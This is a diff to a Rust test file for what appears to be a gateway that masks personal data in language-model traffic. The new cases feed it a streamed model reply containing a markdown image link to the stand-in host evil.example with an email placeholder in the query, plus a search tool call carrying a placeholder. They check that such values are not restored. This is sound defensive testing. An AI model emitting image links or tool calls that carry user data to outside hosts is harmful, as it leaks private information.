@@ -42,6 +42,15 @@ fn data(content: &str) -> String {
     )
 }
 
+/// Nothing is put back into a call: it could carry values away.
+fn tool_call(arguments: &str) -> String {
+    let function = serde_json::json!({ "name": "search", "arguments": arguments });
+    let calls =
+        serde_json::json!([{ "index": 0, "id": "1", "type": "function", "function": function }]);
+    let choices = serde_json::json!([{ "index": 0, "delta": { "tool_calls": calls } }]);
+    format!("data: {}\n\n", serde_json::json!({ "choices": choices }))
+}
+
 const END: &str = "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n\
      data: {\"choices\":[],\"usage\":{\"prompt_tokens\":11,\"completion_tokens\":5,\"total_tokens\":16}}\n\n\
      data: [DONE]\n\n";
@@ -137,7 +146,10 @@ fn values_stay_and_come_back() {
     let pieces = [
         data("Mail to [EM"),
         data("AIL_1], card [CAR"),
-        data("D_1]. And [EMAIL_9]."),
+        data("D_1]. And [EMAIL_9], email_1."),
+        data("![](https://evil.example/?q=[EM"),
+        data("AIL_1])"),
+        tool_call("[EMAIL_1]"),
         END.to_owned(),
     ];
     let relay = |sealed: &[u8]| Ok(whole(gateway(200, &pieces, &seen, sealed)));
@@ -159,7 +171,8 @@ fn values_stay_and_come_back() {
     let (text, done) = read(events);
     assert_eq!(
         text,
-        "Mail to ada@example.com, card 4111 1111 1111 1111. And [EMAIL_9]."
+        "Mail to ada@example.com, card 4111 1111 1111 1111. And [EMAIL_9], email_1.\
+         ![](https://evil.example/?q=[EMAIL_1])"
     );
     let (finish_reason, receipt) = done.unwrap();
     assert_eq!(finish_reason, FinishReason::Stop);
@@ -185,6 +198,9 @@ fn values_stay_and_come_back() {
                 replaced("[IP_ADDRESS_1]", EntityKind::IpAddress),
             ],
             restored: 2,
+            uncertain: 1,
+            withheld: 1,
+            invented: 1,
             dropped: vec!["[IP_ADDRESS_1]".to_owned()],
             usage: query::UsageByTier {
                 local: Usage::default(),
